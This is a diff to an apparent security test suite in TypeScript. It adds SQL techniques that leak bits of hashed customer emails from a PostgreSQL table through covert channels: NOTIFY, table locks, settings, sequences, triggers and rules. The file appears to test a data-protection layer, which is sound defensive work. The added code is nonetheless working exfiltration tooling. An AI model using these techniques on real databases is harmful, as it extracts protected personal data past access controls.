@@ -1,7 +1,7 @@
 /** Code that asks a class little at a time and writes elsewhere, and is run for each of many rows: by calls, by triggers, by what definitions run. */
 
 import { attackSuite, type Technique } from '../../support/attack.ts';
-import { rowsOf } from '../../support/wire-client.ts';
+import { rowsOf, type WireClient, type WireMessage } from '../../support/wire-client.ts';
 
 export const codeThatWrites = attackSuite('code-that-writes', {
   sql: `
@@ -114,6 +114,65 @@ group('what is written is not what was given', 'derived copies', () => {
   attack('by numbers that all equal one', written(KEPT, 'CREATE TABLE public.OWN_b (k bigint PRIMARY KEY, n int); INSERT INTO public.OWN_b SELECT (1::bigint << 62) + k FROM generate_series(-200, 200) k',
     `CREATE FUNCTION public.OWN_t() RETURNS trigger LANGUAGE plpgsql AS $$ DECLARE k int := NEW.n + (NEW.k - (1::bigint << 62)); BEGIN ${IF_SET.replace('RETURN 0', 'RETURN NEW')} END $$`, 'CREATE TRIGGER t AFTER UPDATE ON public.OWN_b FOR EACH ROW EXECUTE FUNCTION public.OWN_t()',
     ...Array.from({ length: 20 }, (_, i) => `UPDATE public.OWN_b SET n = ${400 * i + 200} WHERE k = '4611686018427387904'::float8`), 'SELECT DISTINCT k FROM public.OWN_kept WHERE k BETWEEN 32 AND LAST'), 'lax', 0);
+});
+
+/** The code that writes asks nobody: whoever calls it decides whether it runs. */
+const MARKS = "CREATE SEQUENCE public.OWN_q; CREATE FUNCTION public.OWN_m() RETURNS int LANGUAGE plpgsql AS $$ BEGIN INSERT INTO public.OWN_kept SELECT last_value + 31 FROM public.OWN_q; RETURN 0; END $$";
+group('who calls decides', 'derived copies', () => {
+  attack('CASE in the select list', written(KEPT, MARKS, `SELECT count(CASE WHEN ${NEXT} > 0 AND public.bit_of(k) = 1 THEN public.OWN_m() END) FROM KEYS k`, READ), 'lax');
+  attack('CASE over the class', written(KEPT, MARKS, `SELECT count(CASE WHEN ${NEXT} > 0 AND (SELECT get_bit(('x' || right(email, 8))::bit(32), k % 32) FROM crm.customers WHERE id = k / 32) = 1 THEN public.OWN_m() END) FROM KEYS k`, READ), 'lax');
+  attack('FILTER', written(KEPT, MARKS, `SELECT count(public.OWN_m()) FILTER (WHERE ${NEXT} > 0 AND public.bit_of(k) = 1) FROM KEYS k`, READ), 'lax');
+  attack('a list of calls', async (attacker) => written(KEPT, MARKS, ...Array.from({ length: Math.ceil(attacker.customers / 30) }, (_, n) => `SELECT ${Array.from({ length: 960 }, (_each, i) => `CASE WHEN ${NEXT} > 0 AND public.bit_of(${32 + 960 * n + i}) = 1 THEN public.OWN_m() END`).join(', ')}`), READ)(attacker), 'lax');
+  attack('a block without a loop', async (attacker) => written(KEPT, MARKS, ...Array.from({ length: Math.ceil(attacker.customers / 30) }, (_, n) => `DO $$ BEGIN ${Array.from({ length: 960 }, (_each, i) => `PERFORM CASE WHEN ${NEXT} > 0 AND public.bit_of(${32 + 960 * n + i}) = 1 THEN public.OWN_m() END;`).join(' ')} END $$`), READ)(attacker), 'lax');
+  attack('an operator', written(KEPT, `${MARKS}; CREATE FUNCTION public.OWN_o(int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN public.OWN_m(); END $$; CREATE OPERATOR public.<!~ (FUNCTION = public.OWN_o, RIGHTARG = int)`, `SELECT count(CASE WHEN ${NEXT} > 0 AND public.bit_of(k) = 1 THEN OPERATOR(public.<!~) 1 END) FROM KEYS k`, 'DROP OPERATOR public.<!~ (NONE, int)', READ), 'lax');
+  /** A channel, or a table, for each bit of eight customers; `make`: a function that says so; `hear`: numbers of those that it did. */
+  const signals = (make: (own: string, i: number) => string, begin: (own: string) => string, hear: (own: string, client: WireClient, answer: readonly WireMessage[]) => Promise<readonly number[]>): Technique => async (attacker) => {
+    const { own } = attacker;
+    const client = await attacker.connect();
+    const bits = Array.from({ length: 256 }, (_, i) => i);
+    await client.query(bits.map((i) => make(own, i)).join(';'), 60_000);
+    for (let id = 1; id <= attacker.customers; id += 8) {
+      await client.query(begin(own));
+      const answer = await client.query(`SELECT count(CASE 32 * (c.id - ${id}) + n ${bits.map((i) => `WHEN ${i} THEN public.${own}_${i}()`).join(' ')} END) FROM crm.customers c, generate_series(0, 31) n WHERE c.id >= ${id} AND c.id < ${id + 8} AND get_bit(('x' || right(c.email, 8))::bit(32), n) = 1`, 30_000);
+      const set = new Set(await hear(own, client, answer));
+      await client.query('ROLLBACK');
+      for (let k = 0; k < 8; k++) {
+        const hash = bits.slice(0, 32).reduce((sum, n) => (set.has(32 * k + n) ? sum | (1n << BigInt(31 - n)) : sum), 0n);
+        attacker.decoded += `cnry-${String(id + k).padStart(6, '0')}-${hash.toString(16).padStart(8, '0')} `;
+      }
+    }
+  };
+  attack('functions that NOTIFY on a channel each', signals((own, i) => `CREATE FUNCTION public.${own}_${i}() RETURNS int LANGUAGE plpgsql AS $$ BEGIN NOTIFY ${own}_c${i}; RETURN 0; END $$`, (own) => Array.from({ length: 256 }, (_, i) => `LISTEN ${own}_c${i}`).join(';'),
+    async (own, _client, answer) => answer.filter(({ type }) => type === 'A').map(({ body }) => Number(body.toString('latin1', 4).split('\0')[0]?.slice(own.length + 2)))), 'lax');
+  attack('functions that lock a table each', signals((own, i) => `CREATE TABLE public.${own}_l${i} (); CREATE FUNCTION public.${own}_${i}() RETURNS int LANGUAGE plpgsql AS $$ BEGIN LOCK TABLE public.${own}_l${i}; RETURN 0; END $$`, () => 'BEGIN',
+    async (own, client) => rowsOf(await client.query(`SELECT substr(relname, ${own.length + 3}) FROM pg_locks l JOIN pg_class c ON c.oid = l.relation WHERE relname LIKE '${own}\\_l%'`)).map(([n]) => Number(String(n)))), 'lax');
+  attack('functions that change a setting each', signals((own, i) => `CREATE FUNCTION public.${own}_${i}() RETURNS int LANGUAGE plpgsql AS $$ BEGIN SET LOCAL search_path = public, ${own}_p${i}; SET LOCAL app.${own}_p${i} = 'x'; RETURN 0; END $$`, () => 'BEGIN',
+    async (own, client) => rowsOf(await client.query(`SELECT ${Array.from({ length: 256 }, (_, i) => `current_setting('app.${own}_p${i}', true)`).join(', ')}`))[0]?.flatMap((value, i) => (String(value) === 'x' ? [i] : [])) ?? []), 'lax');
+  /** A sequence for each bit of eight customers, and a function that moves it; `make`: the function's text. */
+  const sequences = (make: (own: string, i: number) => string): Technique => async (attacker) => {
+    const { own } = attacker;
+    const client = await attacker.connect();
+    const bits = Array.from({ length: 256 }, (_, i) => i);
+    await client.query(bits.map((i) => `CREATE SEQUENCE public.${own}_q${i}; ${make(own, i)}`).join(';'), 60_000);
+    const look = async (): Promise<ReadonlyMap<number, string>> => new Map(rowsOf(await client.query(`SELECT substr(sequencename, ${own.length + 3}), coalesce(last_value, 0) FROM pg_sequences WHERE sequencename LIKE '${own}\\_q%'`)).map(([n, last]) => [Number(String(n)), String(last)]));
+    for (let id = 1, before = await look(); id <= attacker.customers; id += 8) {
+      await client.query(`SELECT count(CASE 32 * (c.id - ${id}) + n ${bits.map((i) => `WHEN ${i} THEN public.${own}_${i}()`).join(' ')} END) FROM crm.customers c, generate_series(0, 31) n WHERE c.id >= ${id} AND c.id < ${id + 8} AND get_bit(('x' || right(c.email, 8))::bit(32), n) = 1`, 30_000);
+      const after = await look();
+      for (let k = 0; k < 8; k++) {
+        let hash = 0n;
+        for (let n = 0; n < 32; n++) if (before.get(32 * k + n) !== after.get(32 * k + n)) hash |= 1n << BigInt(31 - n);
+        attacker.decoded += `cnry-${String(id + k).padStart(6, '0')}-${hash.toString(16).padStart(8, '0')} `;
+      }
+      before = after;
+    }
+  };
+  attack('functions in PL/pgSQL that move a sequence each', sequences((own, i) => `CREATE FUNCTION public.${own}_${i}() RETURNS bigint LANGUAGE plpgsql AS $$ BEGIN RETURN nextval('public.${own}_q${i}'); END $$`), 'lax');
+  attack('functions in SQL that move a sequence each', sequences((own, i) => `CREATE FUNCTION public.${own}_${i}() RETURNS bigint LANGUAGE sql AS $$ SELECT nextval('public.${own}_q${i}') $$`), 'lax');
+  attack('a function in SQL', written(KEPT, `${MARKS}; CREATE FUNCTION public.OWN_g(k int) RETURNS int LANGUAGE sql AS 'SELECT CASE WHEN nextval(''public.OWN_q'') > 0 AND public.bit_of(k) = 1 THEN public.OWN_m() END'`, 'SELECT count(public.OWN_g(k)) FROM KEYS k', READ), 'lax');
+  attack('a trigger', written(KEPT, `${MARKS}; CREATE FUNCTION public.OWN_t() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN IF nextval('public.OWN_q') > 0 AND public.bit_of(NEW.k) = 1 THEN PERFORM public.OWN_m(); END IF; RETURN NEW; END $$; CREATE TRIGGER t AFTER INSERT ON public.OWN FOR EACH ROW EXECUTE FUNCTION public.OWN_t()`, BRING, READ), 'lax');
+  attack('a trigger of a table that is written to', written(KEPT, `CREATE SEQUENCE public.OWN_q; CREATE TABLE public.OWN_w (a int); CREATE FUNCTION public.OWN_m() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN INSERT INTO public.OWN_kept SELECT last_value + 31 FROM public.OWN_q; RETURN NULL; END $$; CREATE TRIGGER t BEFORE INSERT ON public.OWN_w FOR EACH ROW EXECUTE FUNCTION public.OWN_m()`,
+    `INSERT INTO public.OWN_w SELECT 1 FROM KEYS k WHERE ${NEXT} > 0 AND public.bit_of(k) = 1`, READ), 'lax');
+  attack('a rule', written(KEPT, `${MARKS}; CREATE RULE r AS ON INSERT TO public.OWN DO INSTEAD SELECT CASE WHEN nextval('public.OWN_q') > 0 AND public.bit_of(NEW.k) = 1 THEN public.OWN_m() END`, BRING, READ), 'lax');
 });
 
 /** What the code reads is written as it is. */
